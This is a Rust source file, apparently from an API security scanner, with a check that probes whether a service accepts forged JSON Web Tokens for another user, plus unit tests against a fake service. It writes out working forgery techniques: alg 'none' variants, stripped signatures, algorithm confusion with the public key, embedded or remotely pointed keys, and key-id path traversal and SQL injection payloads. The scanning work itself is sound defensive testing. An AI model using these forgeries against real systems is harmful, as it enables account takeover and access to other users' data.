//! A token that nobody with the key has made is taken for a user's.

use serde_json::{Map, Value, json};

use super::parts::{
    family::{self, Family},
    forger,
    jwt::{Hash, as_another, pem_of, sign, unsigned},
};
use crate::{
    call::{ANONYMOUS, Call},
    check::{Check, Info, Phase, Proof, Risk, Target, Verdict},
    finding::{Section, Severity, Shield},
    script::{Flow, Planted, Script},
    world::World,
};

/// The check.
pub(super) struct ForgedTokenAccepted;

static INFO: Info = Info {
    id: "forged_token_accepted",
    title: "A forged token is taken for another user's",
    section: Section::Security,
    severity: Severity::Critical,
    risk: Risk::Safe,
    phase: Phase::Read,
    owasp: "API2:2023",
    cwe: 347,
    wfc: Some("F207"),
    remedy: "Verify every token with one algorithm and keys that the server knows beforehand; take neither algorithm, \
             key, nor the address of keys from the token.",
    oracle: "Tokens with another user's claims are made without the key: unsigned ones, with a signature of other \
             claims, signed with the public key as a secret, with a key the token itself carries or points to, with a \
             key id that names an empty file or is injected into a query. One must show that other user's data, while \
             a plain false signature is refused. Shown twice, the second time with the users changed.",
    requests_max: 60,
};

/// One way to forge.
struct Forgery {
    variant: &'static str,
    words: &'static str,
    token: Option<String>,
}

impl Check for ForgedTokenAccepted {
    fn info(&self) -> &'static Info {
        &INFO
    }

    fn targets(&self, world: &World) -> Vec<Target> {
        family::targets(world)
    }

    fn run(&self, world: &World, target: &Target, script: &mut Script<'_>) -> Flow<Verdict> {
        let Some(family) = Family::of(world, script, target)? else { return Ok(Verdict::Clean) };
        let turned = family.turned();
        let operation = family.call.operation;
        // A signature of other claims first: where even that is believed, nothing further is to be told.
        let (control, believed) = family.taken(script, &spoiled(&family))?;
        if believed {
            let (again, twice) = turned.taken(script, &spoiled(&turned))?;
            let words = "a token with another user's claims and the signature of other claims was taken for that user's";
            let exchanges =
                vec![(family.their_answer.0, "baseline"), (control, "probe"), (again, "confirmation")];
            let mut proof = Proof::confirmed(words, exchanges, Shield::Token);
            "signature_ignored".clone_into(&mut proof.variant);
            proof.operation = operation;
            return Ok(if twice { Verdict::Found(vec![proof]) } else { Verdict::Clean });
        }
        let mut keys = Vec::new();
        if family.mine.1.alg().starts_with("RS") {
            keys = public_keys(world, script)?;
        }
        let mut proofs = Vec::new();
        let planted = planted(script)?;
        for at in 0..forgeries(&family, &keys, planted.as_deref()).len() {
            let make = |family: &Family| forgeries(family, &keys, planted.as_deref()).into_iter().nth(at);
            let (Some(first), Some(second)) = (make(&family), make(&turned)) else { continue };
            let (Some(token), Some(other)) = (first.token, second.token) else { continue };
            if proofs.iter().any(|proof: &Proof| proof.variant == first.variant) {
                continue;
            }
            let (probe, believed) = family.taken(script, &token)?;
            if !believed {
                continue;
            }
            let (again, twice) = turned.taken(script, &other)?;
            if twice {
                let exchanges = vec![
                    (family.their_answer.0, "baseline"),
                    (control, "control"),
                    (probe, "probe"),
                    (again, "confirmation"),
                ];
                let words = format!("a token {} was taken for another user's", first.words);
                let mut proof = Proof::confirmed(words, exchanges, Shield::Token);
                first.variant.clone_into(&mut proof.variant);
                proof.operation = operation;
                proofs.push(proof);
            }
        }
        Ok(if proofs.is_empty() { Verdict::Clean } else { Verdict::Found(proofs) })
    }
}

/// The victim's claims with the signature that the forger's own claims bear.
fn spoiled(family: &Family) -> String {
    let claims = as_another(&family.mine.1.claims, &family.theirs.1.claims);
    let signature = family.mine.0.rsplit('.').next().unwrap_or_default();
    let mut claims = claims;
    // Two tokens of one moment may have equal claims but for the subject: this keeps the signature wrong.
    claims.insert("jti".to_owned(), Value::from("0"));
    format!("{}.{signature}", unsigned(&family.mine.1.header, &claims))
}

fn forgeries(family: &Family, keys: &[String], jku: Option<&str>) -> Vec<Forgery> {
    let header = &family.mine.1.header;
    let claims = as_another(&family.mine.1.claims, &family.theirs.1.claims);
    let changed = |changes: &[(&str, Value)]| {
        let mut header = header.clone();
        for (name, value) in changes {
            header.insert((*name).to_owned(), value.clone());
        }
        header
    };
    let mut all = Vec::new();
    for alg in ["none", "None", "NONE", "nOnE"] {
        let token = Some(format!("{}.", unsigned(&changed(&[("alg", json!(alg))]), &claims)));
        all.push(Forgery { variant: "unsigned", words: "without a signature (alg `none`)", token });
    }
    let bare = Some(format!("{}.", unsigned(header, &claims)));
    all.push(Forgery { variant: "signature_removed", words: "whose signature was taken away", token: bare });
    for key in keys {
        let confused = changed(&[("alg", json!("HS256"))]);
        for key in [key.as_str(), key.trim_end()] {
            let token = Some(sign(&confused, &claims, Hash::Sha256, key.as_bytes()));
            all.push(Forgery {
                variant: "algorithm_confused",
                words: "signed with the public key as a secret",
                token,
            });
        }
    }
    let rs = [("alg", json!("RS256")), ("kid", json!("forged"))];
    let mut embedded = changed(&rs);
    embedded.insert("jwk".to_owned(), forger::public("forged"));
    all.push(Forgery {
        variant: "own_key",
        words: "that carries the key it was signed with",
        token: forger::sign(&embedded, &claims),
    });
    if let Some(url) = jku {
        for name in ["jku", "x5u"] {
            let mut pointing = changed(&rs);
            pointing.insert(name.to_owned(), json!(url));
            all.push(Forgery {
                variant: "own_key_address",
                words: "that names the address of the key it was signed with",
                token: forger::sign(&pointing, &claims),
            });
        }
    }
    kids(header, &claims, &mut all);
    all
}

/// Key ids that lead to a key everybody knows.
fn kids(header: &Map<String, Value>, claims: &Map<String, Value>, all: &mut Vec<Forgery>) {
    let hash =
        Hash::of(header.get("alg").and_then(Value::as_str).unwrap_or_default()).unwrap_or(Hash::Sha256);
    let mut header = header.clone();
    if !header.get("alg").and_then(Value::as_str).unwrap_or_default().starts_with("HS") {
        header.insert("alg".to_owned(), json!("HS256"));
    }
    let mut push = |kid: &str, key: &[u8], variant, words| {
        header.insert("kid".to_owned(), json!(kid));
        all.push(Forgery { variant, words, token: Some(sign(&header, claims, hash, key)) });
    };
    for kid in [
        "../../../../../../../dev/null",
        "/dev/null",
        "../../../../../../../proc/sys/kernel/randomize_va_space",
    ] {
        let key: &[u8] = if kid.ends_with("space") { b"2\n" } else { b"" };
        push(kid, key, "key_id_path", "whose key id is the path of a file everybody knows");
    }
    for kid in
        ["x' UNION SELECT 'portcullis' -- ", "x' UNION SELECT 'portcullis", "x\" UNION SELECT \"portcullis"]
    {
        push(kid, b"portcullis", "key_id_injection", "whose key id was put into a query");
    }
}

/// Public keys as PEM texts, from where they are usually published and where the description says.
fn public_keys(world: &World, script: &mut Script<'_>) -> Flow<Vec<String>> {
    let mut paths =
        vec!["/.well-known/jwks.json".to_owned(), "/jwks.json".to_owned(), "/.well-known/jwks".to_owned()];
    for (_, operation) in world.model.all() {
        if let Some(("GET", path)) = operation.rest()
            && !path.contains('{')
            && ["jwks", "public-key", "publickey", "public_key", "certs"]
                .iter()
                .any(|it| path.to_ascii_lowercase().contains(it))
        {
            paths.insert(0, path.to_owned());
        }
    }
    paths.dedup();
    for path in paths.into_iter().take(5) {
        let (_, answer) = script.send(Call::bare("GET", &path, ANONYMOUS))?;
        if !answer.done() {
            continue;
        }
        if answer.text().contains("BEGIN PUBLIC KEY") && answer.json.is_none() {
            return Ok(vec![answer.text().into_owned()]);
        }
        let keys = answer.json.as_ref().and_then(|json| json.get("keys")).and_then(Value::as_array);
        let pems: Vec<String> = keys.into_iter().flatten().take(3).filter_map(pem_of).collect();
        if !pems.is_empty() {
            return Ok(pems);
        }
    }
    Ok(Vec::new())
}

/// Lays the forger's own keys down at the listener; the address, where there is a listener.
fn planted(script: &mut Script<'_>) -> Flow<Option<String>> {
    let Some((token, url)) = script.token() else { return Ok(None) };
    let body = json!({"keys": [forger::public("forged")]}).to_string();
    let headers = vec![("content-type".to_owned(), "application/json".to_owned())];
    script.plant(&token, Planted { status: 200, headers, body })?;
    Ok(Some(url))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        checks::parts::jwt::Token,
        model::Effect,
        script::rehearse::{Ask, Fake, Stage, answer},
        wire::Answer,
    };

    fn map(value: Value) -> Map<String, Value> {
        value.as_object().unwrap().clone()
    }

    fn world() -> World {
        let mut world =
            Stage::new().op("GET /me", Effect::Reads, json!({"email": "alice@mail.example", "n": 1})).world;
        for identity in &mut world.identities {
            let claims = map(json!({"sub": identity.name, "exp": 9}));
            identity.session.secret =
                sign(&map(json!({"alg": "HS256"})), &claims, Hash::Sha256, b"a long key of 32");
        }
        world
    }

    /// A service that believes what the closure does.
    fn serve(believes: impl Fn(&Token, &str) -> bool) -> impl FnMut(&Ask) -> Answer {
        move |ask| {
            let text = ask.credential.clone().unwrap_or_default();
            match Token::parse(&text) {
                Some(token) if token.signed_by(b"a long key of 32") || believes(&token, &text) => {
                    let sub = token.claims["sub"].as_str().unwrap();
                    answer(200, json!({"email": format!("{sub}@mail.example"), "n": 1}))
                }
                _ => answer(401, json!({})),
            }
        }
    }

    fn variants(service: impl FnMut(&Ask) -> Answer) -> Vec<String> {
        Fake::new(&world(), service).all(&ForgedTokenAccepted).into_iter().map(|it| it.variant).collect()
    }

    #[test]
    fn finds_each_way_of_forging() {
        assert_eq!(variants(serve(|_, _| true)), ["signature_ignored"]);
        assert_eq!(variants(serve(|it, _| it.alg() == "NONE")), ["unsigned"]);
        assert_eq!(variants(serve(|it, _| it.header.contains_key("jwk"))), ["own_key"]);
        assert_eq!(variants(serve(|it, _| it.header.contains_key("x5u"))), ["own_key_address"]);
        let path =
            |it: &Token, _: &str| it.header.get("kid") == Some(&json!("/dev/null")) && it.signed_by(b"");
        assert_eq!(variants(serve(path)), ["key_id_path"]);
    }

    #[test]
    fn is_silent_where_signatures_are_verified_or_everything_is_answered_alike() {
        assert!(variants(serve(|_, _| false)).is_empty());
        let shown = variants(|ask: &Ask| {
            let text = ask.credential.clone().unwrap_or_default();
            let known = Token::parse(&text).is_some_and(|it| it.signed_by(b"a long key of 32"));
            answer(
                200,
                if known {
                    json!({"n": 1, "name": text})
                } else {
                    json!({"error": "log in", "n": 1, "x": 2})
                },
            )
        });
        assert!(shown.is_empty(), "{shown:?}");
    }
}
